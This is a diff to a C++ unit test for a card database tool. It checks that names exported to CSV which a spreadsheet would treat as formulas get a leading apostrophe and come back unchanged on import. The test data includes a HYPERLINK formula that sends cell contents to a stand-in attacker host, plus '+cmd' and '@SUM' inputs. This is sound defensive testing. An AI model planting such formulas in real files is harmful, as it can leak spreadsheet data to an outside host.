@@ -99,12 +99,17 @@ TEST_F(CliFiles, ABadCardFileIsRefusedWithTheFileLayersMessageAndNothingWritten)
 
 // ---- export and import
 
-TEST_F(CliFiles, ExportAndImportKeepNamesWithCommasQuotesLineBreaksAndOtherScripts)
+// A name a spreadsheet would run as a formula is written as text (a leading apostrophe) and
+// comes back as it was.
+TEST_F(CliFiles, ExportAndImportKeepNamesWithCommasQuotesLineBreaksOtherScriptsAndFormulas)
 {
     const QString Names[] = {QString::fromUtf8("Smith, \"Jo\""), QString::fromUtf8("two\r\nlines"),
-                             QString::fromUtf8("Zoë Åberg"), QString::fromUtf8("日本 🚪"), QString()};
+                             QString::fromUtf8("Zoë Åberg"), QString::fromUtf8("日本 🚪"), QString(),
+                             "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+cmd", "-2+3", "@SUM(A1)",
+                             "\tx", "'=x", "'Tis"};
+    constexpr int Count = int(std::size(Names));
     TRfidTags Tags;
-    for (int I = 0; I < 5; ++I) {
+    for (int I = 0; I < Count; ++I) {
         TRfidTag& Tag = Tags.Add();
         Tag.Bytes = {0x00, uint8_t(0x80 + I), 0x00, 0x01, uint8_t(I)};
         Tag.Name = Names[I].toUtf8();
@@ -118,14 +123,18 @@ TEST_F(CliFiles, ExportAndImportKeepNamesWithCommasQuotesLineBreaksAndOtherScrip
     EXPECT_TRUE(Csv.contains(QString::fromUtf8("2147483904,\"Smith, \"\"Jo\"\"\",\r\n"))) << Csv.toStdString();
     EXPECT_TRUE(Csv.contains(QString::fromUtf8("\"two\r\nlines\""))) << Csv.toStdString();
     EXPECT_TRUE(Csv.contains(QString::fromUtf8(",日本 🚪,yes\r\n"))) << Csv.toStdString();
+    for (const char* Guarded : {",\"'=HYPERLINK(", ",'+cmd,", ",'-2+3,", ",'@SUM(A1),", ",'\tx,", ",''=x,", ",'Tis,"})
+        EXPECT_TRUE(Csv.contains(QString::fromLatin1(Guarded))) << Guarded;
 
     R = RunCli({"import", Path("cards.csv"), "-o", Path("back.tdb")});
     ASSERT_EQ(R.Status, 0) << R.Err.toStdString();
     const TLoadedCardDatabase Back = LoadCardDatabaseFile(Path("back.tdb"));
-    ASSERT_EQ(Back.Tags.Count(), 5);
+    ASSERT_EQ(Back.Tags.Count(), Count);
     EXPECT_EQ(Back.Master, 3u);
-    for (int I = 0; I < 5; ++I)
+    for (int I = 0; I < Count; ++I)
         EXPECT_EQ(Back.Tags.Items(I).CardValue(), Tags.Items(I).CardValue()) << I;
+    for (int I = 5; I < Count; ++I)
+        EXPECT_EQ(Back.Tags.Items(I).Name, Names[I].toUtf8()) << I;
     EXPECT_EQ(Back.Tags.Items(0).Name, Names[0].toUtf8());
     EXPECT_EQ(Back.Tags.Items(1).Name, Names[1].toUtf8());
     // A name that fits Windows-1252 is stored in it; one that does not stays UTF-8.
